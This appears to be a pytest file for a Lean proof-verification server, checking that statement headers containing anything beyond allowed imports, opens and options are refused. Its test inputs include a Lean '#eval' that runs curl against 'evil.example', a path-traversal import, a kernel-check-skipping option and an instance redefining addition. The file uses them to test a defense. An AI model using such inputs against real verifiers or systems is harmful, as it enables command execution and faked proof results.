"""Headers are code: `check_header`, the header of a statement, and how the server splits a snippet's imports off."""

from __future__ import annotations

import json
from pathlib import Path

import httpx
import pytest
from kimina_verify import IntegrityPolicy, check_header, statement_header
from kimina_verify.server.snippet import split_snippet
from kimina_verify.testing import sim_server

MINIF2F = (
    "import Mathlib\nimport Aesop\n\nset_option maxHeartbeats 400000\n\nopen BigOperators Real Nat Topology Rat\n\n"
)


def codes(header: str, policy: IntegrityPolicy | None = None) -> list[str]:
    return [v.code for v in check_header(header, policy)]


def test_real_headers_pass(data_dir: Path) -> None:
    rows = [json.loads(line) for line in (data_dir / "minif2f.jsonl").read_text().splitlines()]
    headers = {statement_header(r["header"] + r["formal_statement"]) for r in rows}
    assert headers == {MINIF2F.replace("400000", "0")}  # the dataset's own header
    assert [codes(h) for h in headers] == [[]] and codes(MINIF2F) == []


@pytest.mark.parametrize(
    ("header", "code"),
    [
        ('import Mathlib\n#eval IO.Process.run {cmd := "curl", args := #["evil.example"]}', "header_command"),
        ("import Mathlib\nset_option debug.skipKernelTC true", "header_option"),
        ("import Mathlib\nset_option maxHeartbeats (10 ^ 9)", "header_option"),
        ("import Mathlib\nset_option maxHeartbeats 400000 in", "header_option"),
        ("import Lake", "header_import"),
        ("import Mathlib.«../../etc»", "header_import"),
        ("open Real\nimport Mathlib", "header_import"),
        ("import Mathlib\nopen Real in", "header_command"),
        ("import Mathlib\nopen Nat renaming sqrt → log", "header_command"),
        ("import Mathlib\nopen Nat (sqrt)", "header_command"),
        ("import Mathlib\ninstance : Add ℝ := ⟨(· * ·)⟩", "header_command"),
        ("import Mathlib\nnamespace Foo", "header_command"),
        ("import Mathlib\n/- unterminated", "unterminated"),
        ("import Mathlib\nopen Real -- \ud800", "text_encoding"),
    ],
)
def test_anything_but_imports_opens_and_allowed_options_is_refused(header: str, code: str) -> None:
    violations = check_header(header)
    assert code in [v.code for v in violations]
    assert all(v.line is not None and v.message for v in violations)


@pytest.mark.parametrize(
    "header",
    [
        "import Mathlib",
        "-- a comment\nimport Mathlib.Data.Real.Basic /- another -/\nimport Aesop\n",
        "import Mathlib\nopen scoped BigOperators\nopen Real Nat",
        "import Mathlib\nset_option maxRecDepth 10000\nset_option linter.unusedVariables false",
        "",
    ],
)
def test_harmless_headers_pass(header: str) -> None:
    assert codes(header) == []


def test_the_policy_decides_packages_and_options() -> None:
    policy = IntegrityPolicy(allowed_imports=("Mathlib", "MyLib"), allowed_options=frozenset({"autoImplicit"}))
    assert codes("import MyLib.Basic\nset_option autoImplicit false", policy) == []
    assert codes("import Aesop", policy) == ["header_import"]


def test_statement_header_is_what_comes_before_the_first_declaration() -> None:
    statement = MINIF2F + "/-- The problem. -/\n@[simp] theorem t : True := by\n  sorry"
    assert statement_header(statement) == MINIF2F + "/-- The problem. -/\n"
    assert statement_header("import Mathlib\n#eval 1\ntheorem t : True := trivial") == "import Mathlib\n#eval 1\n"


@pytest.mark.parametrize(
    ("code", "header", "body"),
    [
        ("import Mathlib\rtheorem t : True := trivial", "import Mathlib", "               theorem t : True := trivial"),
        ("import Mathlib /- c -/\ntheorem t : True := trivial", "import Mathlib", "theorem t : True := trivial"),
        ("import Mathlib /- c\n-/ theorem t : True := trivial", "import Mathlib", "   theorem t : True := trivial"),
        ("import Mathlib -- x\n\ntheorem t : True := trivial", "import Mathlib", "theorem t : True := trivial"),
        (
            "import «Mathlib» theorem t : True := trivial",
            "import Mathlib",
            "                 theorem t : True := trivial",
        ),
    ],
)
def test_the_server_reads_imports_as_lean_does(code: str, header: str, body: str) -> None:
    split = split_snippet(code)
    assert (split.header, split.body) == (header, body)
    # The body keeps its place: its first line is the source line it came from, columns unchanged.
    assert len(code.split("\n")[split.header_lines]) == len(split.body.split("\n")[0])


def test_positions_stay_right_after_a_split_mid_line() -> None:
    with sim_server(max_repls=1) as url:
        code = "import Mathlib /- c\n-/ theorem t : True := by\n  sorry"
        response = httpx.post(f"{url}/api/check", json={"snippets": [{"id": "a", "code": code}]}, timeout=30)
    (result,) = response.json()["results"]
    assert result["response"]["sorries"][0]["pos"] == {"line": 3, "column": 2}


def test_the_server_refuses_headers_it_would_otherwise_import() -> None:
    with sim_server(max_repls=1) as url:
        codes_ = ["import Lake\ntheorem t : True := trivial", "import Mathlib\ntheorem t : True := trivial"]
        snippets = [{"id": str(i), "code": c} for i, c in enumerate(codes_)]
        refused, fine = httpx.post(f"{url}/api/check", json={"snippets": snippets}, timeout=30).json()["results"]
    assert refused["error"].startswith("integrity: header refused, header_import: `import Lake`")
    assert fine["response"] == {"env": 1}
